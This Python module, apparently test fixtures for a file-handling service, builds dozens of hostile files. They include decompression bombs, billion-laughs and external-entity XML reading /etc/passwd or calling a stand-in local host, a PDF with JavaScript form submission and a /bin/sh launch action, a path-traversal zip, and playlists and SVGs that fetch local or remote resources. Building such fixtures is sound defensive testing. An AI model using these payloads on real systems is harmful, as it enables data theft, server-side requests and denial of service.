"""Files made to exhaust, to mislead or to lead out whoever opens them, by name: what the file is called, and its bytes.

Each is smaller than 5 MB. Those of ``BOMBS`` are drawn by nobody; of ``ATTACKS`` some are, as what they harmlessly are.
"""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from functools import cache

from machinery import samples

type Bombs = Mapping[str, tuple[str, Callable[[], bytes]]]
_SECRET = "file:///etc/passwd"
_AWAY = "http://127.0.0.1:9/asked"
_XML = '<?xml version="1.0"?>'
_PLAYLIST = f"#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:1.0,\n{_SECRET}\n#EXTINF:1.0,\n{_AWAY}\n"
_DRAWING = f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{_AWAY}"/></svg>'
_TYPE_1 = b"%!PS-AdobeFont-1.0\n/Subrs 65535 array dup 0 9 RD " + b"\xff" * 9_000
_PAGES = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"


def entities(depth: int = 9) -> str:
    """A document type in which each entity is ten of the one before."""
    names = "abcdefghij"[: depth + 1]
    more = (f'<!ENTITY {names[n + 1]} "{f"&{names[n]};" * 10}">' for n in range(depth))
    return f'<!DOCTYPE w [<!ENTITY a "lol">{"".join(more)}]>'


def zeros(size: int) -> bytes:
    """An archive with a text of so many letters."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made, made.open("a.txt", "w") as inside:
        for _ in range(size // 1_000_000):
            inside.write(b"a" * 1_000_000)
    return out.getvalue()


def lying(content: bytes, says: int) -> bytes:
    """The archive with another length in its list than its file has."""
    with zipfile.ZipFile(io.BytesIO(content)) as made:
        true = made.infolist()[0].file_size
    return content.replace(true.to_bytes(4, "little"), says.to_bytes(4, "little"))


@cache
def _flat(size: int) -> bytes:
    """So many zeros, deflated."""
    made, out = zlib.compressobj(1), []
    for _ in range(size // 1_000_000):
        out.append(made.compress(bytes(1_000_000)))
    return b"".join([*out, made.flush()])


def pdf(*objects: bytes, root: bytes = b"<</Type/Catalog/Pages 2 0 R>>", trailer: bytes = b"") -> bytes:
    """A document of the catalogue (1), and these from 2 on; whoever opens it has to find them."""
    found = b"".join(b"%d 0 obj\n%s\nendobj\n" % (n, one) for n, one in enumerate((root, *objects), 1))
    return b"%PDF-1.7\n" + found + b"trailer<</Root 1 0 R/Size %d%s>>\n%%%%EOF" % (len(objects) + 2, trailer)


def _sheet(drawing: bytes, resources: bytes = b"<<>>", *more: bytes, filters: bytes = b"") -> bytes:
    """A document of one page with this drawing; ``more`` are the objects from 5 on."""
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 4 0 R/Resources %s>>" % resources
    return pdf(_PAGES, page, _stream(drawing, filters), *more)


def _stream(content: bytes, more: bytes = b"") -> bytes:
    return b"<</Length %d%s>>stream\n%s\nendstream" % (len(content), more, content)


def _of_pixels(wide: int, high: int, content: bytes = b"\0") -> bytes:
    head = b"/Type/XObject/Subtype/Image/Width %d/Height %d/BitsPerComponent 8/ColorSpace/DeviceRGB" % (wide, high)
    flat = b"/Filter/FlateDecode"
    return _sheet(
        b"q 600 0 0 800 0 0 cm /I Do Q", b"<</XObject<</I 5 0 R>>>>", _stream(zlib.compress(content), head + flat)
    )


def _draws_itself() -> bytes:
    form = b"/Type/XObject/Subtype/Form/BBox[0 0 600 800]/Resources<</XObject<</F 5 0 R>>>>"
    return _sheet(b"/F Do", b"<</XObject<</F 5 0 R>>>>", _stream(b"/F Do /F Do", form))


def _doubling() -> bytes:
    """Forms that draw the next one twenty times, eight deep."""
    forms = [
        _stream(
            b"/F Do " * 20, b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</F %d 0 R>>>>" % (n + 1)
        )
        for n in range(5, 13)
    ]
    last = _stream(b"0 0 9 9 re f", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]")
    return _sheet(b"/F Do", b"<</XObject<</F 5 0 R>>>>", *forms, last)


def _letters_that_write() -> bytes:
    """A font whose one letter writes itself."""
    font = (
        b"<</Type/Font/Subtype/Type3/FontBBox[0 0 9 9]/FontMatrix[1 0 0 1 0 0]/FirstChar 97/LastChar 97/Widths[9]"
        b"/Encoding<</Differences[97/a]>>/CharProcs<</a 6 0 R>>/Resources<</Font<</T 5 0 R>>>>>>"
    )
    glyph = _stream(b"9 0 d0 BT /T 9 Tf (aaaa) Tj ET")
    return _sheet(b"BT /T 9 Tf (aaaa) Tj ET", b"<</Font<</T 5 0 R>>>>", font, glyph)


def _own_font(content: bytes, kind: bytes) -> bytes:
    """A letter in a font that the document brings along."""
    font = b"<</Type/Font/Subtype/TrueType/BaseFont/A/FirstChar 97/LastChar 97/Widths[9]/FontDescriptor 6 0 R>>"
    about = b"<</Type/FontDescriptor/FontName/A/Flags 4/FontBBox[0 0 9 9]/%s 7 0 R>>" % kind
    return _sheet(b"BT /T 99 Tf (aaaa) Tj ET", b"<</Font<</T 5 0 R>>>>", font, about, _stream(content))


def _tiles() -> bytes:
    """A pattern of tiles a millionth of a point wide."""
    tile = (
        b"/Type/Pattern/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 1 1]/XStep .000001/YStep .000001/Resources<<>>"
    )
    return _sheet(b"/Pattern cs /P scn 0 0 600 800 re f", b"<</Pattern<</P 5 0 R>>>>", _stream(b"0 0 1 1 re f", tile))


def _chunk(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def _png(wide: int, high: int, *more: bytes) -> bytes:
    head = _chunk(b"IHDR", struct.pack(">IIBBBBB", wide, high, 8, 2, 0, 0, 0))
    body = _chunk(b"IDAT", zlib.compress(bytes(4 * 3 + 4)))
    return b"\x89PNG\r\n\x1a\n" + head + b"".join(more) + body + _chunk(b"IEND", b"")


def _tiff(*entries: tuple[int, int, int, int], following: int = 0) -> bytes:
    rows = b"".join(struct.pack("<HHII", *entry) for entry in entries)
    return b"II*\0" + struct.pack("<IH", 8, len(entries)) + rows + struct.pack("<I", following) + bytes(64)


def _bitmap() -> bytes:
    return b"BM" + struct.pack("<IIIIiiHHIIiiII", 54, 0, 54, 40, 2**31 - 1, 2**31 - 1, 1, 24, 0, 0, 0, 0, 0, 0)


def _gif(frames: int) -> bytes:
    frame = b"\x21\xf9\4\0\1\0\0\0" + b"\x2c" + struct.pack("<HHHHB", 0, 0, 1, 1, 0) + b"\2\2D\1\0"
    return b"GIF89a" + struct.pack("<HHBBB", 65_535, 65_535, 0x80, 0, 0) + bytes(6) + frame * frames + b";"


def _many_entries(count: int, name: str = "{}.txt") -> bytes:
    return samples.archive({name.format(n): "a" for n in range(count)})


def _nested(depth: int) -> bytes:
    content = samples.archive({"a.txt": "a"})
    for n in range(depth):
        content = samples.archive({f"{n}.zip": content})
    return content


def _book(content: str, part: str = "xl/worksheets/sheet1.xml") -> bytes:
    """A workbook with another sheet than its own."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(samples.workbook())) as old,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made,
    ):
        for one in old.namelist():
            if one != part:
                made.writestr(one, old.read(one))
        made.writestr(part, content)
    return out.getvalue()


def _open_document(content: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet", zipfile.ZIP_STORED)
        made.writestr("content.xml", content)
    return out.getvalue()


_LEAD_OUT = f'<!DOCTYPE w [<!ENTITY j SYSTEM "{_SECRET}"><!ENTITY k SYSTEM "{_AWAY}">]>'
_BY_PARAMETER = f'<!DOCTYPE w [<!ENTITY % p SYSTEM "{_AWAY}"> %p; <!ENTITY j SYSTEM "{_SECRET}">]>'
_LONG = f'<!DOCTYPE w [<!ENTITY j "{"a" * 50_000}">]>'
_ACTS = (
    b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert(1);this.submitForm('%s'))>>"
    b"/AA<</WC<</S/Launch/F(/bin/sh)>>>>/Names<</EmbeddedFiles<</Names[(a)<</F(a)>>]>>>>>>" % _AWAY.encode()
)

BOMBS: Bombs = {
    "progressive": ("a.jpg", lambda: samples.picture("JPEG", (11_000, 10_000), progressive=True)),
    "wide": ("a.png", lambda: samples.picture("PNG", (60_000, 2_000), "1")),
    "zip": ("a.zip", lambda: zeros(300_000_000)),
    "lying zip": ("a.zip", lambda: lying(zeros(300_000_000), 1_000)),
    "pdf of many sheets": ("a.pdf", lambda: samples.pdf(301)),
    "xml": ("a.docx", lambda: samples.document("&j;", entities())),
    "far cell": ("a.xlsx", lambda: samples.workbook('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>' * 2)),
    "film as large as a wall": ("a.mp4", lambda: samples.recording(seconds=1, size=(8192, 4320), sounds=0)),
    "many cells": ("a.xlsx", lambda: samples.workbook(f"<row>{'<c><v>1</v></c>' * 1_000_000}</row>")),
    "zip in zip": ("a.zip", lambda: _nested(30)),
    "zip of many": ("a.zip", lambda: _many_entries(20_000)),
    "picture that says it is large": ("a.png", lambda: _png(1_000_000, 1_000_000)),
    "picture as high as it goes": ("a.png", lambda: _png(2**31 - 1, 2**31 - 1)),
    "strip of two billion": ("a.tif", lambda: _tiff((256, 4, 1, 2**31 - 1), (257, 4, 1, 2**31 - 1), (273, 4, 1, 8))),
    "bitmap of two billion": ("a.bmp", _bitmap),
}  # fmt: skip
ATTACKS: Bombs = {
    "pdf of a billion zeros": ("a.pdf", lambda: _sheet(_flat(1_000_000_000), filters=b"/Filter/FlateDecode")),
    "pdf of zeros twice": (
        "a.pdf", lambda: _sheet(zlib.compress(_flat(1_000_000_000)), filters=b"/Filter[/FlateDecode/FlateDecode]"),
    ),
    "pdf of a large picture": ("a.pdf", lambda: _of_pixels(60_000, 60_000)),
    "pdf that draws itself": ("a.pdf", _draws_itself),
    "pdf that draws 25 billion": ("a.pdf", _doubling),
    "pdf whose letter writes itself": ("a.pdf", _letters_that_write),
    "pdf of tiny tiles": ("a.pdf", _tiles),
    "pdf of brackets": ("a.pdf", lambda: _sheet(b"[" * 2_000_000)),
    "pdf of nested arrays": ("a.pdf", lambda: pdf(b"[" * 1_000_000)),
    "pdf whose pages are their own": ("a.pdf", lambda: pdf(b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2>>")),
    "pdf of two billion sheets": ("a.pdf", lambda: pdf(b"<</Type/Pages/Kids[]/Count 2147483647>>")),
    "pdf that goes back for ever": (
        "a.pdf", lambda: b"%PDF-1.7\nxref\n0 0\ntrailer<</Root 1 0 R/Size 1/Prev 9>>\nstartxref\n9\n%%EOF",
    ),
    "pdf that acts": ("a.pdf", lambda: pdf(_PAGES, b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>", root=_ACTS)),
    "font of nothing": ("a.pdf", lambda: _own_font(b"\0\1\0\0" + b"\xff" * 4_000, b"FontFile2")),
    "font of zeros": ("a.pdf", lambda: _own_font(b"\0\1\0\0" + bytes(500_000), b"FontFile2")),
    "font of OpenType": ("a.pdf", lambda: _own_font(b"OTTO" + b"\xff\0" * 50_000, b"FontFile3")),
    "font of Type 1": ("a.pdf", lambda: _own_font(_TYPE_1, b"FontFile")),
    "font by itself": ("a.ttf", lambda: b"\0\1\0\0" + struct.pack(">HHHH", 65_535, 1, 1, 1) + b"\xff" * 100_000),
    "font of the web": ("a.woff2", lambda: b"wOF2\0\1\0\0" + b"\xff" * 100_000),
    "picture with a bomb for a note": (
        "a.png", lambda: _png(4, 1, _chunk(b"zTXt", b"a\0\0" + _flat(300_000_000))),
    ),
    "picture with a bomb for a profile": (
        "a.png", lambda: _png(4, 1, _chunk(b"iCCP", b"a\0\0" + _flat(300_000_000))),
    ),
    "picture of a hundred thousand": ("a.gif", lambda: _gif(100_000)),
    "pictures that follow themselves": ("a.tif", lambda: _tiff((256, 4, 1, 1), (257, 4, 1, 1), following=8)),
    "picture that ends": ("a.jpg", lambda: samples.picture("JPEG")[:-500]),
    "entity from outside": ("a.docx", lambda: samples.document("&j;&k;", _LEAD_OUT)),
    "entity by a parameter": ("a.docx", lambda: samples.document("&j;", _BY_PARAMETER)),
    "entity often": ("a.docx", lambda: samples.document("&j;" * 50_000, _LONG)),
    "sheet of entities": ("a.xlsx", lambda: _book(f"{_XML}{entities()}<worksheet>&j;</worksheet>")),
    "sheet from outside": ("a.xlsx", lambda: _book(f"{_XML}{_LEAD_OUT}<worksheet>&j;</worksheet>")),
    "sheet that is deep": ("a.xlsx", lambda: _book("<a>" * 500_000)),
    "open document of entities": ("a.ods", lambda: _open_document(f"{_XML}{entities()}<a>&j;</a>")),
    "open document from outside": ("a.ods", lambda: _open_document(f"{_XML}{_LEAD_OUT}<a>&j;</a>")),
    "zip that climbs": ("a.zip", lambda: _many_entries(3, "../../../../tmp/climbed-{}.txt")),
    "playlist of secrets": ("a.mp4", lambda: _PLAYLIST.encode()),
    "list of parts": ("a.mp4", lambda: f"ffconcat version 1.0\nfile {_SECRET}\nfile {_AWAY}\n".encode()),
    "drawing of a program": ("a.svg", lambda: _DRAWING.encode()),
    "table of a million columns": ("a.csv", lambda: b"a," * 1_000_000),
    "one line": ("a.txt", lambda: b"a" * 2_900_000),
    "marks upon marks": ("a.txt", lambda: ("a" + "\u0301" * 300_000).encode()),
}  # fmt: skip
